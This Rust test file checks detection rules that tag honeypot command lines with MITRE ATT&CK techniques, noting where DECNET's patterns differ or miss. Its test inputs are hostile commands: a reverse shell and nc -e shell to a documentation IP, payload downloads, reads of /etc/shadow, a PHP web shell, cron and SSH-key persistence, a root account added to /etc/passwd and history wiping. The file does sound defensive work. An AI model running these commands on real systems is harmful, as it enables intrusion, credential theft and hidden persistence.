//! R0010 to R0029: typed lines, and those that DECNET's patterns miss (G37).

use serde_json::json;

use super::{Row, check, cowrie};

fn row(detection: &'static str, line: &str, expected: &'static [&'static str]) -> Row {
    Row { detection, line: cowrie("command.input", json!({ "input": line })), expected, among_others: true }
}

#[test]
fn commands_of_decnet() {
    check(vec![
        row("R0010", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", &["T1059.004"]),
        row("R0010", "nc -e /bin/sh 198.51.100.7 4444", &["T1059.004"]),
        row("R0010", "/bin/sh -c 'id'", &["T1059.004"]),
        // DECNET says T1059; the language has a sub-technique.
        row("R0011", "python3 -c 'print(1)'", &["T1059.006"]),
        row("R0011", "perl -e 'print 1'", &["T1059"]),
        row("R0012", "wget http://198.51.100.7/a", &["T1105"]),
        row("R0012", "tftp -g -r a 198.51.100.7", &["T1105"]),
        // DECNET says T1083; whoever reads this file reads accounts.
        row("R0013", "cat /etc/passwd", &["T1087.001"]),
        row("R0014", "cat /etc/shadow", &["T1003.008"]),
        // DECNET says T1083 too; a search for nothing but set-uid files is what it is for.
        row("R0015", "find / -perm -4000 2>/dev/null", &["T1548.001"]),
        row("R0016", "find / -name '*.conf'", &["T1083"]),
        // DECNET says T1595 too, which is before a foothold; this is typed after it.
        row("R0017", "nmap -sS 192.0.2.0/24", &["T1046"]),
        row("R0018", "uname -a", &["T1082"]),
        row("R0018", "lsb_release -a", &["T1082"]),
        row("R0019", "whoami", &["T1033"]),
        row("R0020", "ifconfig", &["T1016"]),
        row("R0021", "netstat -an", &["T1049"]),
        row("R0022", "ldapsearch -x", &["T1087.002"]),
        row("R0023", "smbclient -L //192.0.2.7", &["T1135"]),
        row("R0024", "useradd -m bob", &["T1136.001"]),
        row("R0025", "echo '* * * * * /tmp/x' > /etc/cron.d/x", &["T1053.003"]),
        row("R0026", "redis-cli config set dir /root/.ssh/", &["T1098.004"]),
        row("R0027", "echo '<?php system($_GET[0]);' > /var/www/html/x.php", &["T1505.003"]),
        row("R0028", "history -c", &["T1070.003"]),
        row("R0029", "sudo -l", &["T1548.003"]),
    ]);
}

#[test]
fn lines_that_decnet_misses() {
    check(vec![
        row("R0018", "lsb_release -a", &["T1082"]),
        row("R0024", "useradd -m -s /bin/bash x", &["T1136.001"]),
        row("R0024", "adduser --gecos '' x", &["T1136.001"]),
        row("R0012", "wget 198.51.100.7/a", &["T1105"]),
        row("R0012", "curl -O 198.51.100.7/a", &["T1105"]),
        row("R0012", "scp root@198.51.100.7:/a .", &["T1105"]),
        row("R0012", "tftp -g -r a 198.51.100.7", &["T1105"]),
        row("R0019", "ls; id", &["T1033"]),
        row("R0019", "/usr/bin/id", &["T1033"]),
        row("R0029", "sudo -i", &["T1548.003"]),
        row("R0010", "bash -c id", &["T1059.004"]),
        row("R0011", "python3.11 -c 'print(1)'", &["T1059.006"]),
        row("R0025", "echo '* * * * * x' | crontab -", &["T1053.003"]),
        row("R0025", "echo '* * * * * root x' >> /etc/crontab", &["T1053.003"]),
        row("R0028", "rm ~/.bash_history", &["T1070.003"]),
        row("R0028", "> /root/.bash_history", &["T1070.003"]),
        row("R0026", "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", &["T1098.004"]),
        row("R0020", "ip r", &["T1016"]),
        row("R0021", "netstat", &["T1049"]),
        row("R0020", "route", &["T1016"]),
        row("R0016", "find . -name x", &["T1083"]),
        row("R0014", "cat '/etc/shadow'", &["T1003.008"]),
        row("R0024", "printf 'x:x:0:0::/:/bin/sh\\n' >> /etc/passwd", &["T1136.001"]),
    ]);
}
